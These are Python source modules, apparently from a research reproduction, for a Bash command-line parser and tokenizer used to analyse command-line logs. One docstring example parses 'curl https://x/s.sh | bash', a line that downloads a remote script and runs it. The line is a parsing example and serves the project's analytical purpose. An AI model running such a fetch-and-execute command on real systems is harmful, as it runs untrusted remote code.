                parts.append(WordPart(escaped, ""))
            elif ch == "'":
                parts.append(WordPart(self._lex_single_quote(scanner, raw), "'"))
            elif ch == '"':
                parts.append(WordPart(self._lex_double_quote(scanner, raw), '"'))
            elif ch == "`":
                parts.append(WordPart(self._lex_backtick(scanner, raw), "`"))
            elif ch == "$":
                parts.append(self._lex_dollar(scanner, raw))
            else:
                raw.append(scanner.advance())
                if parts and parts[-1].quote == "" and not parts[-1].text.startswith("\\"):
                    parts[-1] = WordPart(parts[-1].text + raw[-1], "")
                else:
                    parts.append(WordPart(raw[-1], ""))
        return Token(TokenKind.WORD, "".join(raw), start, tuple(parts))

    def _lex_single_quote(self, scanner: _Scanner, raw: list[str]) -> str:
        start = scanner.pos
        raw.append(scanner.advance())  # opening '
        body: list[str] = []
        while True:
            if scanner.exhausted:
                raise ShellSyntaxError("unterminated single quote", start, scanner.text)
            ch = scanner.advance()
            raw.append(ch)
            if ch == "'":
                return "".join(body)
            body.append(ch)

    def _lex_double_quote(self, scanner: _Scanner, raw: list[str]) -> str:
        start = scanner.pos
        raw.append(scanner.advance())  # opening "
        body: list[str] = []
        while True:
            if scanner.exhausted:
                raise ShellSyntaxError("unterminated double quote", start, scanner.text)
            ch = scanner.peek()
            if ch == '"':
                raw.append(scanner.advance())
                return "".join(body)
            if ch == "\\":
                scanner.advance()
                if scanner.exhausted:
                    raise ShellSyntaxError("unterminated double quote", start, scanner.text)
                escaped = scanner.advance()
                raw.append("\\" + escaped)
                body.append(escaped)
            elif ch == "$":
                part = self._lex_dollar(scanner, raw)
                body.append(part.text)
            elif ch == "`":
                body.append(self._lex_backtick(scanner, raw))
            else:
                raw.append(scanner.advance())
                body.append(ch)

    def _lex_backtick(self, scanner: _Scanner, raw: list[str]) -> str:
        start = scanner.pos
        raw.append(scanner.advance())  # opening `
        body: list[str] = []
        while True:
            if scanner.exhausted:
                raise ShellSyntaxError("unterminated backquote substitution", start, scanner.text)
            ch = scanner.advance()
            raw.append(ch)
            if ch == "`":
                return "".join(body)
            if ch == "\\" and not scanner.exhausted:
                escaped = scanner.advance()
                raw.append(escaped)
                body.append(escaped)
            else:
                body.append(ch)

    def _lex_dollar(self, scanner: _Scanner, raw: list[str]) -> WordPart:
        start = scanner.pos
        raw.append(scanner.advance())  # the $
        ch = scanner.peek()
        if ch == "(":
            if scanner.peek(1) == "(":
                body = self._lex_balanced(scanner, raw, "((", "))", start)
                return WordPart(body, "$((")
            body = self._lex_balanced(scanner, raw, "(", ")", start)
            return WordPart(body, "$(")
        if ch == "{":
            body = self._lex_balanced(scanner, raw, "{", "}", start)
            return WordPart(body, "${")
        # Simple $NAME or positional/special parameter; lex greedily.
        name: list[str] = []
        if ch and (ch in chars.NAME_FIRST or ch.isdigit() or ch in "?$!#@*-"):
            name.append(scanner.advance())
            raw.append(name[-1])
            if name[-1] in chars.NAME_FIRST:
                while scanner.peek() and scanner.peek() in chars.NAME_REST:
                    name.append(scanner.advance())
                    raw.append(name[-1])
        return WordPart("".join(name), "$")

    def _lex_balanced(self, scanner: _Scanner, raw: list[str], opener: str, closer: str, start: int) -> str:
        """Lex a balanced ``$(...)``/``${...}``/``$((...))`` construct."""
        raw.append(scanner.advance(len(opener)))
        depth = 1
        body: list[str] = []
        open_ch, close_ch = opener[0], closer[0]
        while True:
            if scanner.exhausted:
                raise ShellSyntaxError(f"unterminated ${opener}...{closer} construct", start, scanner.text)
            ch = scanner.peek()
            if ch == "\\":
                raw.append(scanner.advance())
                if not scanner.exhausted:
                    escaped = scanner.advance()
                    raw.append(escaped)
                    body.append(escaped)
                continue
            if ch == "'":
                body.append(self._lex_single_quote(scanner, raw))
                continue
            if ch == '"':
                body.append(self._lex_double_quote(scanner, raw))
                continue
            if ch == open_ch:
                depth += 1
            elif ch == close_ch:
                depth -= 1
                if depth == 0:
                    raw.append(scanner.advance(len(closer)))
                    return "".join(body)
            raw.append(scanner.advance())
            body.append(ch)


def tokenize(line: str) -> list[Token]:
    """Tokenize *line* with a default :class:`Lexer` instance."""
    return Lexer().tokenize(line)
