"""Validity checking for raw command lines.

Implements the first pre-processing decision from Section II-A: a
command line that cannot be parsed "can hardly be harmful to the
system" and is removed from further analysis.
"""

from __future__ import annotations

from repro.errors import ShellSyntaxError
from repro.shell.ast_nodes import CommandList
from repro.shell.parser import Parser


class CommandLineValidator:
    """Reusable validator wrapping a single :class:`Parser` instance."""

    def __init__(self, parser: Parser | None = None):
        self._parser = parser or Parser()

    def is_valid(self, line: str) -> bool:
        """Return ``True`` when *line* parses as a shell command list."""
        return self.parse_or_none(line) is not None

    def parse_or_none(self, line: str) -> CommandList | None:
        """Parse *line*, returning ``None`` instead of raising on errors."""
        try:
            return self._parser.parse(line)
        except ShellSyntaxError:
            return None

    def explain(self, line: str) -> str | None:
        """Return the syntax-error message for *line*, or ``None`` if valid."""
        try:
            self._parser.parse(line)
        except ShellSyntaxError as exc:
            return exc.message
        return None


def is_valid_command_line(line: str) -> bool:
    """Validate *line* with a fresh :class:`CommandLineValidator`."""
    return CommandLineValidator().is_valid(line)
