"""AST node types produced by the shell parser.

The node hierarchy intentionally mirrors the small slice of the POSIX
grammar needed for command-line log analysis: lists of pipelines of
simple commands, with subshells/brace groups, assignments, and
redirections.  Each simple command separates its *name*, *flags*
(words starting with ``-``), and positional *arguments* — the
separation Figure 2 of the paper relies on.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterator, Union


@dataclass(frozen=True)
class Word:
    """A single shell word with quoting preserved in ``raw``.

    Attributes
    ----------
    raw:
        Original text of the word including quotes and escapes.
    position:
        Character offset in the source line.
    """

    raw: str
    position: int = 0

    @property
    def is_flag(self) -> bool:
        """Words beginning with ``-`` (but not bare ``-``/``--``) are flags."""
        return self.raw.startswith("-") and self.raw not in ("-", "--")


@dataclass(frozen=True)
class Assignment:
    """A variable assignment prefix such as ``FOO=bar``."""

    name: str
    value: str
    position: int = 0

    @property
    def raw(self) -> str:
        """The assignment re-assembled as ``name=value``."""
        return f"{self.name}={self.value}"


@dataclass(frozen=True)
class Redirect:
    """An I/O redirection such as ``2> /dev/null`` or ``>> out.log``."""

    operator: str
    target: Word
    fd: int | None = None
    position: int = 0


@dataclass
class SimpleCommand:
    """A simple command: assignments, a name, flags/arguments, redirects."""

    name: Word | None
    words: list[Word] = field(default_factory=list)
    assignments: list[Assignment] = field(default_factory=list)
    redirects: list[Redirect] = field(default_factory=list)

    @property
    def command_name(self) -> str | None:
        """The command name as plain text, or ``None`` for bare assignments."""
        return self.name.raw if self.name is not None else None

    @property
    def flags(self) -> list[str]:
        """All flag words (``-x``, ``--long``) following the name."""
        return [w.raw for w in self.words if w.is_flag]

    @property
    def arguments(self) -> list[str]:
        """All non-flag words following the name."""
        return [w.raw for w in self.words if not w.is_flag]


@dataclass
class Subshell:
    """A parenthesised subshell ``( ... )`` with optional redirections."""

    body: "CommandList"
    redirects: list[Redirect] = field(default_factory=list)


@dataclass
class BraceGroup:
    """A brace group ``{ ...; }`` with optional redirections."""

    body: "CommandList"
    redirects: list[Redirect] = field(default_factory=list)


Command = Union[SimpleCommand, Subshell, BraceGroup]


@dataclass
class Pipeline:
    """One or more commands joined by ``|`` (or ``|&``), possibly negated."""

    commands: list[Command]
    negated: bool = False
    pipe_stderr: list[bool] = field(default_factory=list)


@dataclass
class CommandList:
    """Pipelines joined by control operators (``&&``, ``||``, ``;``, ``&``).

    ``operators[i]`` is the operator between ``pipelines[i]`` and
    ``pipelines[i + 1]``; a trailing ``&`` or ``;`` appears as
    ``terminator``.
    """

    pipelines: list[Pipeline] = field(default_factory=list)
    operators: list[str] = field(default_factory=list)
    terminator: str | None = None

    def __iter__(self) -> Iterator[Pipeline]:
        return iter(self.pipelines)

    def __len__(self) -> int:
        return len(self.pipelines)


def walk_simple_commands(node: object) -> Iterator[SimpleCommand]:
    """Yield every :class:`SimpleCommand` in *node*, depth first.

    Accepts any AST node (:class:`CommandList`, :class:`Pipeline`,
    :class:`Subshell`, :class:`BraceGroup`, or :class:`SimpleCommand`).
    """
    if isinstance(node, SimpleCommand):
        yield node
    elif isinstance(node, Pipeline):
        for command in node.commands:
            yield from walk_simple_commands(command)
    elif isinstance(node, (Subshell, BraceGroup)):
        yield from walk_simple_commands(node.body)
    elif isinstance(node, CommandList):
        for pipeline in node.pipelines:
            yield from walk_simple_commands(pipeline)
