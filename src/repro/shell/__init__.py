"""A from-scratch Bash command-line parser (the ``bashlex`` substrate).

Public surface:

- :func:`tokenize` / :class:`Lexer` — lexical analysis with full quote
  and substitution awareness.
- :func:`parse` / :class:`Parser` — recursive-descent parsing into the
  AST of :mod:`repro.shell.ast_nodes`.
- :class:`CommandExtractor` — command-name / flag / argument extraction.
- :class:`CommandLineValidator` — validity filtering for pre-processing.
"""

from repro.shell.ast_nodes import (
    Assignment,
    BraceGroup,
    CommandList,
    Pipeline,
    Redirect,
    SimpleCommand,
    Subshell,
    Word,
    walk_simple_commands,
)
from repro.shell.extract import CommandExtractor, CommandSummary, extract_command_names
from repro.shell.lexer import Lexer, Token, TokenKind, tokenize
from repro.shell.parser import Parser, parse
from repro.shell.unparse import structural_key, unparse
from repro.shell.validate import CommandLineValidator, is_valid_command_line

__all__ = [
    "Assignment",
    "BraceGroup",
    "CommandExtractor",
    "CommandLineValidator",
    "CommandList",
    "CommandSummary",
    "Lexer",
    "Parser",
    "Pipeline",
    "Redirect",
    "SimpleCommand",
    "Subshell",
    "Token",
    "TokenKind",
    "Word",
    "extract_command_names",
    "is_valid_command_line",
    "parse",
    "structural_key",
    "tokenize",
    "unparse",
    "walk_simple_commands",
]
