"""Recursive-descent parser for shell command lines.

The parser consumes the token stream produced by
:mod:`repro.shell.lexer` and builds the AST defined in
:mod:`repro.shell.ast_nodes`.  It enforces the syntactic constraints
that the paper's pre-processing step depends on: redirections must have
targets, pipes must join two commands, parentheses must balance, and so
on.  Any violation raises :class:`~repro.errors.ShellSyntaxError`,
which marks the line as un-executable noise to be filtered out.
"""

from __future__ import annotations

import re

from repro.errors import ShellSyntaxError
from repro.shell import chars
from repro.shell.ast_nodes import (
    Assignment,
    BraceGroup,
    Command,
    CommandList,
    Pipeline,
    Redirect,
    SimpleCommand,
    Subshell,
    Word,
)
from repro.shell.lexer import Lexer, Token, TokenKind

_ASSIGNMENT_RE = re.compile(r"^([A-Za-z_][A-Za-z0-9_]*)=(.*)$", re.DOTALL)

#: Reserved words that introduce compound constructs we treat as plain
#: words (single-line logs rarely carry multi-line compound statements,
#: and bashlex similarly degrades on partial input).
_RESERVED_AS_WORDS = frozenset({"if", "then", "else", "elif", "fi", "for", "while", "until", "do", "done", "case", "esac", "function", "in", "!", "[[", "]]", "time"})


class _TokenStream:
    """Cursor over the token list with one-token lookahead."""

    def __init__(self, tokens: list[Token], source: str):
        self.tokens = [t for t in tokens if t.kind is not TokenKind.COMMENT]
        self.index = 0
        self.source = source

    def peek(self) -> Token | None:
        if self.index < len(self.tokens):
            return self.tokens[self.index]
        return None

    def next(self) -> Token | None:
        token = self.peek()
        if token is not None:
            self.index += 1
        return token

    @property
    def exhausted(self) -> bool:
        return self.index >= len(self.tokens)


class Parser:
    """Parse shell command lines into :class:`CommandList` ASTs.

    Example
    -------
    >>> ast = Parser().parse("curl https://x/s.sh | bash")
    >>> [c.command_name for p in ast for c in p.commands]
    ['curl', 'bash']
    """

    def __init__(self, lexer: Lexer | None = None):
        self._lexer = lexer or Lexer()

    def parse(self, line: str) -> CommandList:
        """Parse *line* and return its AST.

        Raises
        ------
        ShellSyntaxError
            If the line is not a syntactically valid command list.
        """
        if not line or not line.strip():
            raise ShellSyntaxError("empty command line", 0, line)
        tokens = self._lexer.tokenize(line)
        stream = _TokenStream(tokens, line)
        if stream.exhausted:
            raise ShellSyntaxError("command line contains only comments/whitespace", 0, line)
        result = self._parse_list(stream, stop_values=frozenset(), stop_words=frozenset())
        if not stream.exhausted:
            token = stream.peek()
            assert token is not None
            raise ShellSyntaxError(f"unexpected token {token.value!r}", token.position, line)
        return result

    # ------------------------------------------------------------------
    # Grammar rules
    # ------------------------------------------------------------------

    @staticmethod
    def _at_stop(token: Token | None, stop_values: frozenset[str], stop_words: frozenset[str]) -> bool:
        if token is None:
            return True
        if token.is_operator() and token.value in stop_values:
            return True
        return token.kind is TokenKind.WORD and token.value in stop_words

    def _parse_list(
        self, stream: _TokenStream, stop_values: frozenset[str], stop_words: frozenset[str]
    ) -> CommandList:
        result = CommandList()
        while True:
            pipeline = self._parse_pipeline(stream, stop_values, stop_words)
            result.pipelines.append(pipeline)
            token = stream.peek()
            if self._at_stop(token, stop_values, stop_words):
                break
            assert token is not None
            if token.is_operator("&&", "||", ";", "&"):
                stream.next()
                if self._at_stop(stream.peek(), stop_values, stop_words):
                    if token.value in ("&&", "||"):
                        raise ShellSyntaxError(
                            f"operator {token.value!r} requires a following command", token.position, stream.source
                        )
                    result.terminator = token.value
                    break
                result.operators.append(token.value)
                continue
            raise ShellSyntaxError(f"unexpected token {token.value!r}", token.position, stream.source)
        return result

    def _parse_pipeline(
        self, stream: _TokenStream, stop_values: frozenset[str], stop_words: frozenset[str]
    ) -> Pipeline:
        negated = False
        token = stream.peek()
        if token is not None and token.kind is TokenKind.WORD and token.value == "!":
            negated = True
            stream.next()
        commands: list[Command] = [self._parse_command(stream, stop_values, stop_words)]
        pipe_stderr: list[bool] = []
        while True:
            token = stream.peek()
            if token is None or not token.is_operator("|", "|&"):
                break
            stream.next()
            nxt = stream.peek()
            if nxt is None or (nxt.is_operator() and nxt.value not in ("(",)):
                raise ShellSyntaxError(
                    f"pipe operator {token.value!r} requires a following command", token.position, stream.source
                )
            pipe_stderr.append(token.value == "|&")
            commands.append(self._parse_command(stream, stop_values, stop_words))
        return Pipeline(commands=commands, negated=negated, pipe_stderr=pipe_stderr)

    def _parse_command(
        self, stream: _TokenStream, stop_values: frozenset[str], stop_words: frozenset[str]
    ) -> Command:
        token = stream.peek()
        if token is None:
            raise ShellSyntaxError("expected a command", len(stream.source), stream.source)
        if token.is_operator("("):
            return self._with_trailing_redirects(self._parse_subshell(stream), stream)
        if token.kind is TokenKind.WORD and token.value == "{":
            return self._with_trailing_redirects(self._parse_brace_group(stream), stream)
        return self._parse_simple_command(stream, stop_words)

    def _with_trailing_redirects(self, command: Subshell | BraceGroup, stream: _TokenStream) -> Command:
        """Attach redirections following a compound command, if any."""
        while True:
            token = stream.peek()
            is_redirect = token is not None and (
                token.kind is TokenKind.IO_NUMBER
                or (token.is_operator() and token.value in chars.REDIRECT_OPERATORS)
            )
            if not is_redirect:
                return command
            command.redirects.append(self._parse_redirect(stream))

    def _parse_subshell(self, stream: _TokenStream) -> Subshell:
        open_token = stream.next()
        assert open_token is not None
        body = self._parse_list(stream, stop_values=frozenset({")"}), stop_words=frozenset())
        close_token = stream.next()
        if close_token is None or not close_token.is_operator(")"):
            raise ShellSyntaxError("unbalanced parenthesis: expected ')'", open_token.position, stream.source)
        return Subshell(body=body)

    def _parse_brace_group(self, stream: _TokenStream) -> BraceGroup:
        open_token = stream.next()
        assert open_token is not None
        # The closing } arrives as an ordinary word; parsing the body with
        # "}" as a stop word leaves it in the stream for us to consume.
        body = self._parse_list(stream, stop_values=frozenset(), stop_words=frozenset({"}"}))
        token = stream.peek()
        if token is None or token.kind is not TokenKind.WORD or token.value != "}":
            raise ShellSyntaxError("unbalanced brace group: expected '}'", open_token.position, stream.source)
        stream.next()
        return BraceGroup(body=body)

    def _parse_simple_command(self, stream: _TokenStream, stop_words: frozenset[str] = frozenset()) -> SimpleCommand:
        command = SimpleCommand(name=None)
        saw_any = False
        while True:
            token = stream.peek()
            if token is None:
                break
            if token.kind is TokenKind.IO_NUMBER:
                command.redirects.append(self._parse_redirect(stream))
                saw_any = True
                continue
            if token.is_operator():
                if token.value in chars.REDIRECT_OPERATORS:
                    command.redirects.append(self._parse_redirect(stream))
                    saw_any = True
                    continue
                if token.value == "(":
                    # `foo (` is a syntax error unless it is a function
                    # definition with a body, which one-line logs lack.
                    raise ShellSyntaxError(
                        "unexpected '(' after command word", token.position, stream.source
                    )
                break  # control operator or ')' ends the simple command
            if token.kind is TokenKind.WORD:
                if token.value in stop_words:
                    # leave the closer (e.g. `}`) for the enclosing parser
                    break
                match = _ASSIGNMENT_RE.match(token.value)
                if match and command.name is None and chars.is_name(match.group(1)):
                    stream.next()
                    command.assignments.append(Assignment(match.group(1), match.group(2), token.position))
                    saw_any = True
                    continue
                stream.next()
                word = Word(token.value, token.position)
                if command.name is None:
                    command.name = word
                else:
                    command.words.append(word)
                saw_any = True
                continue
            break
        if not saw_any:
            token = stream.peek()
            position = token.position if token is not None else len(stream.source)
            raise ShellSyntaxError("expected a command", position, stream.source)
        if command.name is None and not command.assignments and not command.redirects:
            raise ShellSyntaxError("empty command", 0, stream.source)
        return command

    def _parse_redirect(self, stream: _TokenStream) -> Redirect:
        token = stream.next()
        assert token is not None
        fd: int | None = None
        if token.kind is TokenKind.IO_NUMBER:
            fd = int(token.value)
            op_token = stream.next()
            if op_token is None or not op_token.is_operator():
                raise ShellSyntaxError("expected redirection operator after fd number", token.position, stream.source)
            token = op_token
        operator = token.value
        if operator not in chars.REDIRECT_OPERATORS:
            raise ShellSyntaxError(f"invalid redirection operator {operator!r}", token.position, stream.source)
        target = stream.peek()
        if target is None or target.kind not in (TokenKind.WORD, TokenKind.IO_NUMBER):
            raise ShellSyntaxError(
                f"redirection {operator!r} requires a target word", token.position, stream.source
            )
        stream.next()
        return Redirect(operator=operator, target=Word(target.value, target.position), fd=fd, position=token.position)


def parse(line: str) -> CommandList:
    """Parse *line* with a default :class:`Parser` instance."""
    return Parser().parse(line)
