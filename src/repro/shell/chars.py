"""Character classification tables for the shell lexer.

The lexer in :mod:`repro.shell.lexer` consults these small helpers to
decide where words end and operators begin.  They follow the POSIX shell
grammar's notion of metacharacters.
"""

from __future__ import annotations

#: Characters that terminate a word and may begin an operator.
METACHARACTERS = frozenset("|&;<>() \t\n")

#: Characters that can start a control/redirect operator.
OPERATOR_START = frozenset("|&;<>()")

#: Multi-character operators recognised by the lexer, longest first so the
#: lexer can greedily match.
OPERATORS = (
    "<<<",
    "<<-",
    "&&",
    "||",
    ";;",
    "<<",
    ">>",
    "<&",
    ">&",
    "<>",
    "|&",
    ">|",
    "|",
    "&",
    ";",
    "<",
    ">",
    "(",
    ")",
)

#: Operators that introduce a redirection and therefore require a WORD
#: operand to follow them.
REDIRECT_OPERATORS = frozenset({"<", ">", ">>", "<<", "<<-", "<<<", "<&", ">&", "<>", ">|"})

#: Control operators that separate commands.
CONTROL_OPERATORS = frozenset({"&&", "||", ";;", ";", "&", "|", "|&"})

#: Characters allowed in a shell variable / function name.
NAME_FIRST = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ_")
NAME_REST = NAME_FIRST | frozenset("0123456789")


def is_metacharacter(ch: str) -> bool:
    """Return ``True`` when *ch* unquoted would terminate a shell word."""
    return ch in METACHARACTERS


def is_blank(ch: str) -> bool:
    """Return ``True`` for space and tab (the shell's ``blank`` class)."""
    return ch in (" ", "\t")


def is_name(text: str) -> bool:
    """Return ``True`` when *text* is a valid shell identifier (``NAME``)."""
    if not text or text[0] not in NAME_FIRST:
        return False
    return all(ch in NAME_REST for ch in text)


def match_operator(text: str, pos: int) -> str | None:
    """Return the longest operator starting at ``text[pos]``, if any."""
    for op in OPERATORS:
        if text.startswith(op, pos):
            return op
    return None
