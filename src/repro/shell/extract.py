"""Extraction of structured information from parsed command lines.

The pre-processing pipeline (Section II-A of the paper) needs two
things from the parser: which lines are valid, and what command names
each line invokes so typo'd names (``dcoker``, ``chdmod``) can be
filtered by frequency.  This module also exposes flag/argument
extraction used by analyses and by the telemetry generator's tests.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.errors import ShellSyntaxError
from repro.shell.ast_nodes import CommandList, walk_simple_commands
from repro.shell.parser import Parser

#: Shell wrappers whose *first non-flag argument* is itself a command we
#: should surface, e.g. ``sudo docker ps`` invokes ``docker``.  Wrappers
#: whose flags take arguments (``watch -n 1``, ``timeout 5``) are
#: deliberately excluded: unwrapping them is unreliable on raw logs.
_COMMAND_WRAPPERS = frozenset({"sudo", "nohup", "exec", "command", "builtin", "doas", "time"})


@dataclass
class CommandSummary:
    """Flat summary of a parsed command line.

    Attributes
    ----------
    names:
        Every command name invoked, in execution order, wrappers
        unwrapped (``sudo docker ps`` yields ``["sudo", "docker"]``).
    flags:
        All flag words across all simple commands.
    arguments:
        All non-flag argument words across all simple commands.
    assignments:
        All ``NAME=value`` assignment prefixes.
    n_commands:
        Number of simple commands in the line.
    """

    names: list[str] = field(default_factory=list)
    flags: list[str] = field(default_factory=list)
    arguments: list[str] = field(default_factory=list)
    assignments: list[tuple[str, str]] = field(default_factory=list)
    n_commands: int = 0

    @property
    def primary_name(self) -> str | None:
        """The first command name in the line, or ``None``."""
        return self.names[0] if self.names else None


class CommandExtractor:
    """Parse command lines and extract :class:`CommandSummary` objects."""

    def __init__(self, parser: Parser | None = None):
        self._parser = parser or Parser()

    def summarize(self, line: str) -> CommandSummary:
        """Parse *line* and summarize it.

        Raises
        ------
        ShellSyntaxError
            If the line cannot be parsed.
        """
        ast = self._parser.parse(line)
        return self.summarize_ast(ast)

    def summarize_ast(self, ast: CommandList) -> CommandSummary:
        """Summarize an already-parsed :class:`CommandList`."""
        summary = CommandSummary()
        for command in walk_simple_commands(ast):
            summary.n_commands += 1
            summary.assignments.extend((a.name, a.value) for a in command.assignments)
            name = command.command_name
            if name is not None:
                summary.names.append(_basename(name))
                # Unwrap `sudo cmd ...`-style wrappers one level at a time.
                rest = list(command.words)
                while rest and _basename(name) in _COMMAND_WRAPPERS:
                    inner = None
                    for index, word in enumerate(rest):
                        if not word.is_flag and "=" not in word.raw:
                            inner = index
                            break
                    if inner is None:
                        break
                    name = rest[inner].raw
                    summary.names.append(_basename(name))
                    rest = rest[inner + 1 :]
            summary.flags.extend(command.flags)
            summary.arguments.extend(command.arguments)
        return summary

    def command_names(self, line: str) -> list[str]:
        """Return the command names invoked by *line* (parsing it first)."""
        return self.summarize(line).names

    def try_summarize(self, line: str) -> CommandSummary | None:
        """Like :meth:`summarize` but returning ``None`` on syntax errors."""
        try:
            return self.summarize(line)
        except ShellSyntaxError:
            return None


def _basename(name: str) -> str:
    """Reduce ``/usr/bin/python3`` to ``python3``; keep bare names as-is."""
    if "/" in name and not name.endswith("/"):
        return name.rsplit("/", 1)[-1]
    return name


def extract_command_names(line: str) -> list[str]:
    """Convenience wrapper: command names of *line* using a fresh extractor."""
    return CommandExtractor().command_names(line)
