"""AST unparsing and structural canonicalization.

Two related utilities on top of the parser:

- :func:`unparse` — reconstruct canonical text from an AST (single
  spaces, normalized operators).  ``parse(unparse(parse(x)))`` is a
  fixed point, which makes it a whitespace/formatting canonicalizer.
- :func:`structural_key` — a dedup key that keeps command names, flags
  and operators but abstracts argument *values* (paths, hosts, numbers
  become placeholders).  The paper de-duplicates the test set exactly;
  structural dedup is the natural ablation (collapsing argument-only
  variants of the same behaviour) and is exercised by the ablation
  benchmarks.
"""

from __future__ import annotations

import re

from repro.errors import ShellSyntaxError
from repro.shell.ast_nodes import (
    BraceGroup,
    Command,
    CommandList,
    Pipeline,
    Redirect,
    SimpleCommand,
    Subshell,
)
from repro.shell.parser import Parser

_NUMBER_RE = re.compile(r"^\d+$")
_PATH_RE = re.compile(r"^~?/")
_HOSTISH_RE = re.compile(r"^\d{1,3}(\.\d{1,3}){3}(:\d+)?$")
_URL_RE = re.compile(r"^[a-z][a-z0-9+.-]*://", re.IGNORECASE)


def _unparse_redirect(redirect: Redirect) -> str:
    prefix = str(redirect.fd) if redirect.fd is not None else ""
    return f"{prefix}{redirect.operator} {redirect.target.raw}"


def _unparse_command(command: Command) -> str:
    if isinstance(command, SimpleCommand):
        parts: list[str] = [assignment.raw for assignment in command.assignments]
        if command.name is not None:
            parts.append(command.name.raw)
        parts.extend(word.raw for word in command.words)
        parts.extend(_unparse_redirect(r) for r in command.redirects)
        return " ".join(parts)
    if isinstance(command, Subshell):
        body = unparse_list(command.body)
        tail = "".join(f" {_unparse_redirect(r)}" for r in command.redirects)
        return f"({body}){tail}"
    if isinstance(command, BraceGroup):
        body = unparse_list(command.body).rstrip(";")
        tail = "".join(f" {_unparse_redirect(r)}" for r in command.redirects)
        return f"{{ {body}; }}{tail}"
    raise TypeError(f"unknown command node {type(command).__name__}")


def _unparse_pipeline(pipeline: Pipeline) -> str:
    parts = [_unparse_command(pipeline.commands[0])]
    for index, command in enumerate(pipeline.commands[1:]):
        operator = "|&" if index < len(pipeline.pipe_stderr) and pipeline.pipe_stderr[index] else "|"
        parts.append(f"{operator} {_unparse_command(command)}")
    text = " ".join(parts)
    return f"! {text}" if pipeline.negated else text


def unparse_list(ast: CommandList) -> str:
    """Reconstruct canonical text from a :class:`CommandList`."""
    pieces = [_unparse_pipeline(ast.pipelines[0])]
    for operator, pipeline in zip(ast.operators, ast.pipelines[1:]):
        rendered = operator if operator != ";" else ";"
        pieces.append(f"{rendered} {_unparse_pipeline(pipeline)}")
    text = " ".join(pieces)
    if ast.terminator == "&":
        text += " &"
    elif ast.terminator == ";":
        text += ";"
    return text


def unparse(line_or_ast: str | CommandList, parser: Parser | None = None) -> str:
    """Canonicalize *line_or_ast* (parsing first when given text).

    Raises
    ------
    ShellSyntaxError
        If text input does not parse.
    """
    if isinstance(line_or_ast, CommandList):
        return unparse_list(line_or_ast)
    ast = (parser or Parser()).parse(line_or_ast)
    return unparse_list(ast)


def _abstract_word(word: str) -> str:
    """Replace value-like words with type placeholders."""
    if word.startswith("-"):
        return word  # flags are structure
    if _URL_RE.match(word):
        return "<url>"
    if _HOSTISH_RE.match(word):
        return "<host>"
    if _NUMBER_RE.match(word):
        return "<n>"
    if _PATH_RE.match(word) or "/" in word:
        return "<path>"
    if word.startswith(("'", '"')):
        return "<str>"
    return word


def _structural_command(command: Command) -> str:
    if isinstance(command, SimpleCommand):
        parts: list[str] = [f"{a.name}=<v>" for a in command.assignments]
        if command.name is not None:
            parts.append(command.name.raw.rsplit("/", 1)[-1])
        parts.extend(_abstract_word(word.raw) for word in command.words)
        # redirect targets are always values: keep bare fd digits (2>&1),
        # abstract every file target
        parts.extend(
            f"{r.operator}{r.target.raw if _NUMBER_RE.match(r.target.raw) else '<path>'}"
            for r in command.redirects
        )
        return " ".join(parts)
    if isinstance(command, Subshell):
        return f"({structural_key_list(command.body)})"
    if isinstance(command, BraceGroup):
        return f"{{{structural_key_list(command.body)}}}"
    raise TypeError(f"unknown command node {type(command).__name__}")


def structural_key_list(ast: CommandList) -> str:
    """The structural dedup key of a parsed command list."""
    pieces = []
    for pipeline in ast.pipelines:
        pieces.append(" | ".join(_structural_command(c) for c in pipeline.commands))
    return " ; ".join(pieces)


def structural_key(line: str, parser: Parser | None = None) -> str:
    """Structural dedup key for raw text; unparseable lines key to themselves."""
    try:
        ast = (parser or Parser()).parse(line)
    except ShellSyntaxError:
        return line
    return structural_key_list(ast)
