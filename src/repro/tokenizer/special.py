"""Special-token definitions shared across the tokenizer and the LM."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class SpecialTokens:
    """Names of the special tokens used by the command-line LM.

    The defaults mirror BERT/RoBERTa conventions: ``[PAD]`` for padding,
    ``[UNK]`` for out-of-vocabulary symbols, ``[CLS]`` as the sequence
    summary position used by classification-based tuning, ``[SEP]`` as
    the end-of-sequence marker, and ``[MASK]`` for MLM pre-training.
    """

    pad: str = "[PAD]"
    unk: str = "[UNK]"
    cls: str = "[CLS]"
    sep: str = "[SEP]"
    mask: str = "[MASK]"

    def as_list(self) -> list[str]:
        """All special tokens, in canonical id order (pad first)."""
        return [self.pad, self.unk, self.cls, self.sep, self.mask]


#: Marker glued to the front of each whitespace-delimited pre-token so that
#: word boundaries survive BPE segmentation (SentencePiece convention).
WORD_BOUNDARY = "▁"
