"""Batch-first columnar tokenization: lines → padded id matrix in one pass.

The serving hot path used to move one Python object per line through
tokenize → embed — a list of :class:`~repro.tokenizer.bpe.Encoding`
objects, each a list of ints, rebuilt into numpy arrays per encoder
chunk.  :class:`ColumnarTokenizer` precompiles the per-word BPE
segmentation into id *arrays* and emits a whole micro-batch as one
:class:`TokenBatch` — a padded ``(N, W)`` int64 id matrix plus per-row
lengths — so everything downstream (embedding, classification,
shared-memory transport to worker processes) operates on contiguous
buffers without per-line Python loops.

Correctness contract: for every line, the row of
:meth:`ColumnarTokenizer.encode` is **identical** to
``BPETokenizer.encode(line, add_special_tokens=True, max_length=...)``
— same segmentation (the same cache-backed greedy merge), same
truncation, same ``[CLS]``/``[SEP]`` framing, same ``[UNK]`` fallback.
The batch additionally carries each line's character length, the key
:meth:`CommandEncoder.embed` buckets by, so a columnar consumer can
replicate the exact chunk composition of the per-line path and produce
bitwise-equal embeddings.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass

import numpy as np

from repro.tokenizer.bpe import BPETokenizer

#: Bound on the precompiled word → id-array cache (same budget as the
#: segmentation cache inside :class:`BPETokenizer`).
_WORD_CACHE_LIMIT = 1_000_000


@dataclass(frozen=True)
class TokenBatch:
    """A micro-batch of tokenized lines as columnar numpy arrays.

    Attributes
    ----------
    ids:
        ``(N, W)`` int64 token ids; row *i* holds ``lengths[i]`` valid
        ids followed by ``pad_id`` filler.
    lengths:
        ``(N,)`` int64 valid-token count per row (specials included).
    char_lengths:
        ``(N,)`` int64 character length of each source line — the
        length-bucketing key :meth:`CommandEncoder.embed` sorts by, kept
        so the columnar path chunks identically to the per-line path.
    pad_id:
        The id filling the tail of every row.
    """

    ids: np.ndarray
